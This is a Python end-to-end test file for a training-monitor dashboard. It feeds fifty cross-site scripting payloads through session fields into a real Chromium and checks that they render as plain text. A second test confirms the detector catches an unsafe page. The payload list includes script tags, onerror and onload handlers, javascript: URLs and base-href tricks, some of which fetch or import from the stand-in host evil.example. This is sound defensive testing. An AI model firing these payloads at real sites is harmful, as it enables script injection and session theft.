"""Row 8: fifty hostile texts through every field that reaches the page, in a real Chromium."""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
import time
from array import array
from typing import TYPE_CHECKING

import pytest

from onthefly.hub import auth
from onthefly.link.discovery import read_hub
from onthefly.protocol import IDENTITIES, SESSION_ALPHABET, Logged, Metrics, Noticed, StateChanged
from onthefly.settings import Settings
from scripts import chromium, node
from tests.conftest import REPOSITORY, wait_for
from tests.hub.agent import Agent, hello, records
from tests.reporting import note

if TYPE_CHECKING:
    from onthefly.protocol import HubFile
    from tests.conftest import Home

pytestmark = [
    pytest.mark.skipif(not chromium.find(), reason="no Chromium on this machine"),
    pytest.mark.skipif(not (REPOSITORY / "extension" / "node_modules").exists(), reason="npm ci has not run"),
]

SCRIPTS = ["alert(1)", "fetch('//evil.example')", "document.body.innerHTML=''", "window.open('//evil.example')",
           "import('//evil.example/x.js')"]  # fmt: skip
SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "\"><script>{}</script>", "'-{}-'",
    "</title><script>{}</script>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<a href=javascript:{}>x</a>",
    "<style>@import '//evil.example/{}'</style>", "<base href=//evil.example><b title=\"{}\">",
]  # fmt: skip
SEED = int(os.environ.get("ONTHEFLY_SEED") or time.time())

PAYLOADS = [shape.replace("{}", script) for shape in SHAPES for script in SCRIPTS]


def identifier(number: int) -> str:
    """A session's id."""
    return SESSION_ALPHABET[number // 20] + SESSION_ALPHABET[number % 20] + "aaaaaa"


def feed(file: HubFile, number: int, payload: str) -> None:
    """A whole session whose every text is that payload."""
    marker = f"{payload} m{number:02d}m"
    first = hello(
        identifier(number), name=marker, project=marker, script=marker, argv=[marker], cwd=marker, process=marker,
        versions={"onthefly": payload, "python": payload, "torch": payload, payload: payload}, started=1e9 + number,
    )  # fmt: skip
    with Agent(file, first) as agent:
        agent.say(StateChanged(state="running", step=0, epoch=0, time=1e9, by=payload, reason=payload))
        agent.say(Noticed(text=payload, remedy=payload, time=1e9))
        losses = array("d", [1.0, 2.0, 3.0]).tobytes()
        agent.say(
            records(0, 3, 5, loss=losses, reasons=[payload], reason=array("h", [0, 0, -1]).tobytes(), loaders=[payload])
        )
        agent.say(
            records(3, 1, 1, sample_loss=array("f", [9.0]).tobytes(), identity=bytes([IDENTITIES.index("key")]),
                    sample=array("q", [-1]).tobytes(), key=array("i", [0]).tobytes(), keys=[payload])
        )  # fmt: skip
        agent.say(Metrics(run="baseline", step=bytes(8), epoch=bytes(4), time=bytes(8), values={payload: bytes(8)}))
        agent.say(Logged(stream="stdout", time=1e9, text=f"{payload}\n"))
        agent.say(StateChanged(state="crashed", step=3, epoch=0, time=1e9, by=payload, reason=payload))
        agent.saved(agent.seq)


def browse(home: Home, file: HubFile, payloads: list[str]) -> tuple[int, str]:
    """Show them to the page one after another; its exit code, and what it says."""
    command = (shutil.which("node") or "node") if node.from_path() else node.from_wheel()[0][0]
    address = f"http://127.0.0.1:{file.port}/#token={file.token}"
    page = subprocess.Popen(
        [command, "e2e/xss.mjs", address], cwd=REPOSITORY / "extension" / "dashboard", text=True,
        env={**home.environment, "CHROMIUM": chromium.find()}, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )  # fmt: skip
    assert page.stdin is not None
    assert page.stdout is not None
    with page:
        for number, payload in enumerate(payloads):
            feed(file, number, payload)
            page.stdin.write(f"m{number:02d}m\n")
            page.stdin.flush()
            said = page.stdout.readline()
            assert said == f"shown m{number:02d}m\n", said + page.stdout.read()
        page.stdin.close()
        rest = page.stdout.read()
    return page.wait(30), rest


def test_fifty_texts_stay_texts(home: Home) -> None:
    assert len(set(PAYLOADS)) == 50
    home.start(sys.executable, "-m", "onthefly", "hub")
    file: HubFile = wait_for("the hub", lambda: read_hub(Settings(home.environment)))
    texts = PAYLOADS if os.environ.get("ONTHEFLY_FULL") else random.Random(SEED).sample(PAYLOADS, 6)
    code, said = browse(home, file, texts)
    assert code == 0, f"seed {SEED}\n{said}"
    note("F6", hostile_texts=len(texts), hostile_texts_run=0)


def test_the_look_would_see_one_that_is_not(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """A page that writes markup, without our policy: what the script reports then."""
    page = (
        "<!doctype html><title>x</title><div id=app></div><script>setInterval(async () => {"
        "const headers = {Authorization: 'Bearer ' + location.hash.slice(7)};"
        "const answer = await fetch('/api/v1/sessions', {headers});"
        "const {sessions} = await answer.json();"
        "if (sessions[0]) app.innerHTML = sessions[0].name + 'm00m'}, 100)</script>"
    )
    from aiohttp import web

    from onthefly.hub.api import Api
    from tests.hub.running import running_hub

    async def shell(self: Api, request: web.Request) -> web.Response:
        return web.Response(text=page, content_type="text/html")

    monkeypatch.setattr(Api, "shell", shell)
    monkeypatch.setattr(auth, "HEADERS", {})
    with running_hub(home.folder) as running:
        code, said = browse(home, running.file, ["<img src=x onerror=alert(1)>"])
    assert code == 1
    assert "dialog: 1" in said, said
